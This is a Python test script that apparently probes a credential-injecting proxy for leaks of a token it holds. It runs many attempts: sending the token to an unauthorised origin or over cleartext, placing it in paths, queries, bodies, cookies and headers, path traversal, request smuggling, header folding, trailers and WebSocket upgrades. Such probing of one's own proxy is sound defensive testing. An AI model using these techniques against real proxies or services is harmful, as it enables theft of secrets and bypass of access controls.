"""Attempts to get at the value behind a placeholder, or to have it sent where it may not go.

    attack.py PORT OTHER CLEAR [NAME]

A credential is in $TOKEN: for https://host.pintle.internal:PORT/repos/**, GET and POST. OTHER is the port of an origin with TLS that
it is not for, and CLEAR one without. Without NAME every attempt is made. Everything that is received is written to standard output.
"""

import base64
import http.client
import os
import socket
import ssl
import sys
import urllib.parse

port, other, clear = (int(text) for text in sys.argv[1:4])
token = os.environ["TOKEN"]
host = "host.pintle.internal"
proxy = urllib.parse.urlsplit(os.environ["https_proxy"])
context = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
attempts = {}


def attempt(function):
    attempts[function.__name__.replace("_", "-")] = function
    return function


def hear(answer):
    # Of a body that unfolds from a few bytes the zeros say nothing.
    body = answer.read().strip(b"\0")
    sys.stdout.buffer.write(b"%d %s\n%s\n%s\n" % (answer.status, answer.reason.encode("latin-1"), str(answer.headers).encode(), body))
    sys.stdout.flush()
    return answer.status, body


def connect(to, at):
    connection = http.client.HTTPSConnection(proxy.hostname, proxy.port, context=context)
    connection.set_tunnel(to, at)
    return connection


def ask(path, method="GET", fields=None, body=None, to=host, at=None, **more):
    connection = connect(to, at or port)
    connection.request(method, path, body, {"X-Key": token} if fields is None else fields, **more)
    return hear(connection.getresponse())


def raw(lines, to=host, at=None, listens=True):
    """Sends bytes inside of an intercepted tunnel, and hears what comes."""
    connection = connect(to, at or port)
    connection.connect()
    connection.sock.sendall(lines)
    if not listens:
        return connection.close()
    whole = b""
    while True:
        try:
            piece = connection.sock.recv(65536)
        except OSError:
            break
        if not piece:
            break
        whole += piece
    sys.stdout.buffer.write(whole)
    return whole


def request(path, fields, body=b"", method="POST"):
    return (
        "%s %s HTTP/1.1\r\nHost: %s:%d\r\nConnection: close\r\n" % (method, path, host, port)
    ).encode() + fields + b"\r\n" + body


def echo(kind):
    def run():
        ask("/repos/" + kind)
        ask("/repos/" + kind, fields={"Authorization": "Bearer " + token, "Accept-Encoding": "gzip, deflate, br"})

    attempts["echo-" + kind] = run


for kind in (
    "plain gzip deflate twice unknown bomb cut-gzip hex base64 base64url shifted json html upper lower bytes sevens field reason "
    "redirect away error trailer"
).split():
    echo(kind)


@attempt
def other_host():
    ask("/repos/plain", to="127.0.0.1", at=other)


@attempt
def other_host_in_query():
    ask("/repos/plain?k=" + token, fields={}, to="127.0.0.1", at=other)


@attempt
def other_host_in_body():
    ask("/repos/plain", "POST", {}, "k=" + token, to="127.0.0.1", at=other)


@attempt
def other_host_in_json():
    ask("/repos/plain", "POST", {"Content-Type": "application/json"}, '{"k": "%s"}' % token, to="127.0.0.1", at=other)


@attempt
def other_host_in_long_body():
    ask("/repos/plain", "POST", {}, "x" * 300000 + token + "x" * 300000, to="127.0.0.1", at=other)


@attempt
def other_host_in_chunks():
    ask("/repos/plain", "POST", {}, iter([token[:7].encode(), token[7:].encode()]), to="127.0.0.1", at=other, encode_chunked=True)


@attempt
def other_host_byte_by_byte():
    ask("/repos/plain", "POST", {}, iter([token[i : i + 1].encode() for i in range(len(token))]), to="127.0.0.1", at=other, encode_chunked=True)


@attempt
def other_host_in_path():
    ask("/repos/" + token, fields={}, to="127.0.0.1", at=other)


@attempt
def other_host_basic():
    ask("/repos/plain", fields={"Authorization": "Basic " + base64.b64encode(b"user:" + token.encode()).decode()}, to="127.0.0.1", at=other)


@attempt
def other_port_of_the_host():
    ask("/repos/plain", at=other)


@attempt
def host_in_field_names_another():
    raw(("GET https://127.0.0.1:%d/repos/plain HTTP/1.1\r\nHost: %s:%d\r\nX-Key: %s\r\nConnection: close\r\n\r\n" % (other, host, port, token)).encode())


@attempt
def host_with_dot():
    ask("/repos/plain", to=host + ".", at=other)


@attempt
def in_clear():
    connection = http.client.HTTPConnection(proxy.hostname, proxy.port)
    connection.request("GET", "http://%s:%d/repos/plain" % (host, clear), headers={"X-Key": token})
    hear(connection.getresponse())


@attempt
def in_clear_to_the_port():
    connection = http.client.HTTPConnection(proxy.hostname, proxy.port)
    connection.request("GET", "http://%s:%d/repos/plain?k=%s" % (host, port, token))
    hear(connection.getresponse())


@attempt
def in_the_connect():
    connection = http.client.HTTPSConnection(proxy.hostname, proxy.port, context=context)
    connection.set_tunnel(host, port, {"X-Key": token, "Proxy-Authorization": "Bearer " + token})
    connection.request("GET", "/repos/plain")
    hear(connection.getresponse())


@attempt
def in_the_path():
    ask("/repos/" + token, fields={})


@attempt
def in_a_field_name():
    ask("/repos/plain", fields={token: "x"})


@attempt
def in_the_method():
    ask("/repos/plain", token, {})


@attempt
def other_method():
    ask("/repos/plain", "DELETE")


@attempt
def lower_case_method():
    ask("/repos/plain", "get")


@attempt
def trace():
    ask("/repos/plain", "TRACE")


@attempt
def other_path():
    ask("/users/plain")


@attempt
def dots_in_the_path():
    ask("/repos/../users/plain")


@attempt
def coded_dots_in_the_path():
    ask("/repos/%2e%2e/users/plain")


@attempt
def coded_slash_in_the_path():
    ask("/repos/..%2fusers/plain")


@attempt
def double_slash():
    ask("//repos/plain")


@attempt
def parameters_in_the_path():
    ask("/repos/..;x/users/plain")


@attempt
def upper_case_path():
    ask("/REPOS/plain")


@attempt
def upper_case():
    ask("/repos/plain", fields={"X-Key": token.upper()})


@attempt
def percent_coded():
    ask("/repos/plain?k=" + "".join("%%%02x" % b for b in token.encode()), fields={})


@attempt
def part_of_it():
    ask("/repos/plain", fields={"X-Key": token[:-1]})


@attempt
def more_than_it():
    ask("/repos/plain", fields={"X-Key": "a" + token + "b"})


@attempt
def two_of_them():
    ask("/repos/base64", fields={"X-Key": token + token, "X-Other": token})


@attempt
def range_by_range():
    whole = b""
    for first in range(0, 400, 5):
        status, body = ask("/repos/range", fields={"X-Key": token, "Range": "bytes=%d-%d" % (first, first + 4)})
        whole += body
        if status == 200:
            break
    sys.stdout.buffer.write(whole)


@attempt
def kept_and_fetched():
    ask("/repos/keep")
    ask("/repos/kept", fields={})


@attempt
def body_echo():
    ask("/repos/plain", "POST", {"Content-Type": "text/plain"}, "k=" + token)


@attempt
def form_echo():
    ask("/repos/plain", "POST", {"Content-Type": "application/x-www-form-urlencoded"}, "k=" + token)


@attempt
def json_echo():
    ask("/repos/json", "POST", {"Content-Type": "application/json"}, '{"k": "%s"}' % token)


@attempt
def chunked_echo():
    ask("/repos/sevens", "POST", {}, iter([token[i : i + 3].encode() for i in range(0, len(token), 3)]), encode_chunked=True)


@attempt
def long_body_echo():
    ask("/repos/plain", "POST", {}, "x" * 65530 + token + "y" * 200000)


@attempt
def basic_echo():
    ask("/repos/plain", fields={"Authorization": "Basic " + base64.b64encode(b"user:" + token.encode()).decode()})


@attempt
def basic_user_echo():
    ask("/repos/plain", fields={"Authorization": "basic  " + base64.b64encode(token.encode() + b":x").decode()})


@attempt
def query_echo():
    ask("/repos/plain?k=" + token, fields={})


@attempt
def cookie_echo():
    ask("/repos/plain", fields={"Cookie": "k=" + token})


@attempt
def head():
    ask("/repos/field", "HEAD")


@attempt
def smuggled():
    raw(request("/repos/plain", b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\nX-Key: " + token.encode() + b"\r\n", b"0\r\n\r\n"))


@attempt
def folded_field():
    raw(request("/repos/plain", b"X-Key: a\r\n " + token.encode() + b"\r\nContent-Length: 0\r\n"))


@attempt
def broken_off():
    raw(request("/repos/plain", b"Content-Length: 500\r\nX-Key: " + token.encode() + b"\r\n", token.encode()[:9]), listens=False)


def payloads(frames):
    """Prints the payloads of a server's frames, those of data frames joined."""
    data, controls, opcodes = b"", b"", set()
    while len(frames) >= 2:
        opcode, size, start = frames[0] & 15, frames[1], 2
        if size == 126:
            size, start = int.from_bytes(frames[2:4], "big"), 4
        payload = frames[start : start + size]
        if opcode >= 8:
            controls += payload
        else:
            data += payload
        opcodes.add(frames[0] & 0x7F)
        frames = frames[start + size :]
    sys.stdout.buffer.write(b"\nmessages: %s\ncontrols: %s\nkinds: %s\n" % (data, controls, str(sorted(opcodes)).encode()))


@attempt
def web_socket():
    whole = raw(
        request(
            "/repos/socket",
            b"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Extensions: permessage-deflate\r\n"
            b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nX-Key: " + token.encode() + b"\r\n",
            method="GET",
        ).replace(b"Connection: close\r\n", b"")
    )
    payloads(whole.partition(b"\r\n\r\n")[2])


@attempt
def other_protocol():
    raw(
        request("/repos/switch", b"Upgrade: tcp\r\nConnection: Upgrade\r\nX-Key: " + token.encode() + b"\r\n", method="GET").replace(
            b"Connection: close\r\n", b""
        )
    )


@attempt
def upgrade():
    raw(request("/repos/field", b"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nX-Key: " + token.encode() + b"\r\n", method="GET"))


@attempt
def expect_continue():
    ask("/repos/plain", "POST", {"Expect": "100-continue", "X-Key": token}, "k=" + token)


@attempt
def request_trailer():
    raw(request("/repos/plain", b"Transfer-Encoding: chunked\r\nTrailer: X-Key\r\nTE: trailers\r\n", b"1\r\na\r\n0\r\nX-Key: " + token.encode() + b"\r\n\r\n"))


for name in sys.argv[4:] or attempts:
    sys.stdout.buffer.write(b"\n== %s\n" % name.encode())
    try:
        attempts[name]()
    except (OSError, http.client.HTTPException, ValueError) as error:
        sys.stdout.buffer.write(("-- %r\n" % error).encode())
sys.stdout.flush()
